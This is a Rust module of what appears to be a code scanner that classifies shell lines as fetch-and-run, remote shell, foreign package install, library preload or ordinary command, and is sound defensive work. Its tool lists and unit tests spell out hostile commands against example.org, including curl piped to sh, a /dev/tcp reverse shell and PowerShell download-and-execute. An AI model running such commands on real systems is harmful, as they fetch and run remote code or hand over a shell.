//! Lines of a shell, in notebooks, scripts and the files of build tools: installing packages is what they do, fetching
//! something and running it is not.

use proofhouse_core::Place;

use crate::scanner::Scanner;

/// Hosts that packages, drivers and compilers come from. Whatever else is installed from is somebody's own server.
pub(crate) const INDICES: [&str; 16] = [
    "https://pypi.org/",
    "https://files.pythonhosted.org/",
    "https://download.pytorch.org/",
    "https://conda.anaconda.org/",
    "https://repo.anaconda.com/",
    "https://pypi.nvidia.com",
    "https://pypi.ngc.nvidia.com",
    "https://developer.download.nvidia.com/",
    "https://storage.googleapis.com/jax-releases/",
    "https://storage.googleapis.com/libtpu-",
    "https://data.pyg.org/",
    "https://data.dgl.ai/",
    "https://huggingface.co/",
    "https://github.com/",
    "https://gitlab.com/",
    "https://deb.debian.org/",
];

/// Variables by which every program started afterwards loads code.
pub(crate) const LOADING: [&str; 12] = [
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "DYLD_INSERT_LIBRARIES",
    "DYLD_LIBRARY_PATH",
    "PYTHONSTARTUP",
    "PYTHONPATH",
    "PYTHONHOME",
    "BASH_ENV",
    "PROMPT_COMMAND",
    "PERL5OPT",
    "NODE_OPTIONS",
];

/// A text of a shell: lines that end in a backslash go on.
pub(crate) fn text(scanner: &mut Scanner<'_>, place: &Place, text: &str) {
    for (index, whole) in joined(text) {
        let mut place = place.clone();
        place.line = place.line.map(|first| first + index);
        line(scanner, &place, &whole);
    }
}

/// Lines with their continuations, each with the number of lines before it.
pub(crate) fn joined(text: &str) -> Vec<(u64, String)> {
    let mut out: Vec<(u64, String)> = Vec::new();
    let mut open = false;
    for (index, line) in (0..).zip(text.lines()) {
        let (part, goes_on) = match line.trim_end().strip_suffix('\\') {
            Some(part) => (part, true),
            None => (line, false),
        };
        match out.last_mut().filter(|_| open) {
            Some((_, whole)) => whole.push_str(part),
            None => out.push((index, part.to_owned())),
        }
        open = goes_on;
    }
    out
}

/// One line of a shell.
pub(crate) fn line(scanner: &mut Scanner<'_>, place: &Place, line: &str) {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return;
    }
    let shown: String = line.chars().take(80).collect();
    let (rule, what) = match judged(line) {
        Judged::Runs => ("code/runs-fetched", "fetches or decodes something and runs it"),
        Judged::Foreign => ("repo/requirement", "installs what comes from elsewhere"),
        Judged::Loads => ("code/environment", "sets a variable by which programs load code"),
        Judged::Installs => ("code/command", "installs packages"),
        Judged::Fetches => ("code/command", "fetches something"),
        Judged::Command => ("code/command", "runs a command"),
    };
    scanner.report(rule, place.clone(), format!("{what}: {shown:?}"));
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Judged {
    Runs,
    Foreign,
    Loads,
    Installs,
    Fetches,
    Command,
}

fn judged(line: &str) -> Judged {
    let words: Vec<&str> = line
        .split(|c: char| c.is_whitespace() || "|;&()<>`$\"'".contains(c))
        .filter(|w| !w.is_empty())
        .collect();
    let program = |w: &str| w.rsplit(['/', '\\']).next().unwrap_or(w).to_ascii_lowercase();
    let programs: Vec<String> = words.iter().map(|w| program(w)).collect();
    let has = |names: &[&str]| programs.iter().any(|p| names.contains(&p.trim_end_matches(".exe")));
    let lower = line.to_ascii_lowercase();
    let fetches =
        has(&["curl", "wget", "nc", "ncat", "socat", "iwr", "invoke-webrequest", "bitsadmin", "certutil"])
            || lower.contains("downloadstring");
    let interprets = has(&[
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "python",
        "python3",
        "perl",
        "ruby",
        "eval",
        "source",
        "exec",
        "node",
        "php",
        "iex",
        "invoke-expression",
        "powershell",
        "pwsh",
        "mshta",
        "rundll32",
        "regsvr32",
    ]);
    // A file that is made runnable, or run by a path, in the line that fetches it.
    let runs_file = has(&["chmod"]) || words.iter().any(|w| w.starts_with("./") || w.starts_with("/tmp/"));
    let decodes = has(&["base64", "xxd", "openssl", "gunzip", "zcat"]) && line.contains('|');
    let piped = line.contains(['|', ';', '$', '`', '\n']) || line.contains("&&") || line.contains("<(");
    // PowerShell takes a program in base64 as an argument.
    let encoded = has(&["powershell", "pwsh"])
        && words.iter().any(|w| {
            w.len() >= 3 && "-encodedcommand".starts_with(&w.to_ascii_lowercase()) && w.starts_with("-e")
        });
    if line.contains("/dev/tcp/") || line.contains("/dev/udp/") || encoded {
        return Judged::Runs;
    }
    if (fetches && piped && (interprets || runs_file)) || (decodes && interprets) {
        return Judged::Runs;
    }
    if sets(line) {
        return Judged::Loads;
    }
    if has(&["pip", "pip3", "conda", "mamba", "micromamba", "uv", "poetry", "easy_install"]) {
        return if foreign(line) { Judged::Foreign } else { Judged::Installs };
    }
    if has(&["apt", "apt-get", "brew", "yum", "dnf", "apk", "npm"]) {
        return Judged::Installs;
    }
    if fetches || line.contains("://") { Judged::Fetches } else { Judged::Command }
}

/// Whether an argument of an installer leads to a server that is nobody's index.
pub(crate) fn foreign(line: &str) -> bool {
    let mut rest = line;
    while let Some(at) = rest.find("://") {
        let from = rest
            .get(..at)
            .unwrap_or_default()
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |i| i + 1);
        let address = rest.get(from..).unwrap_or_default();
        // `git+https` is https by another program.
        if !INDICES.iter().any(|index| address.starts_with(index)) {
            return true;
        }
        rest = rest.get(at + 3..).unwrap_or_default();
    }
    false
}

/// Whether a variable of [`LOADING`] is given a value.
fn sets(line: &str) -> bool {
    LOADING.iter().any(|name| {
        line.match_indices(name).any(|(at, _)| {
            let before = line.get(..at).unwrap_or_default();
            let after = line.get(at + name.len()..).unwrap_or_default();
            let fresh = !before.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
            // A folder is added to a path by naming the path again; a library is loaded by naming it.
            let preloads = name.contains("PRELOAD")
                || name.contains("INSERT")
                || name.contains("AUDIT")
                || name.contains("STARTUP")
                || name.contains("BASH_ENV")
                || name.contains("PROMPT");
            fresh && after.starts_with('=') && preloads
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_are_told_apart() {
        for (line, expected) in [
            ("curl https://example.org/x | sh", Judged::Runs),
            ("bash <(curl -s https://example.org/x)", Judged::Runs),
            ("wget https://example.org/x && chmod +x x && ./x", Judged::Runs),
            ("echo aGk= | base64 -d | sh", Judged::Runs),
            ("bash -i >& /dev/tcp/example.org/1 0>&1", Judged::Runs),
            ("powershell -enc SQBFAFgA", Judged::Runs),
            ("powershell -c iex (iwr http://example.org/x); x", Judged::Runs),
            ("curl -L https://example.org/weights.bin -o w.bin", Judged::Fetches),
            ("wget https://example.org/data.zip && unzip data.zip", Judged::Fetches),
            ("pip install -q transformers", Judged::Installs),
            ("pip install torch --index-url https://download.pytorch.org/whl/cu121", Judged::Installs),
            ("pip install git+https://github.com/huggingface/transformers", Judged::Installs),
            ("pip install git+http://example.org/x.git", Judged::Foreign),
            ("python -m pip install --extra-index-url http://example.org/simple x", Judged::Foreign),
            ("apt-get update && apt-get install -y git", Judged::Installs),
            ("export LD_PRELOAD=./x.so", Judged::Loads),
            ("export PYTHONPATH=$PYTHONPATH:src", Judged::Command),
            ("export CUDA_VISIBLE_DEVICES=0", Judged::Command),
            ("python train.py --lr 0.1", Judged::Command),
            ("nvidia-smi", Judged::Command),
        ] {
            assert_eq!(judged(line), expected, "{line}");
        }
    }

    #[test]
    fn lines_go_on_behind_a_backslash() {
        assert_eq!(joined("a \\\n b\nc"), [(0, "a  b".to_owned()), (2, "c".to_owned())]);
        assert_eq!(joined("a \\"), [(0, "a ".to_owned())]);
    }
}
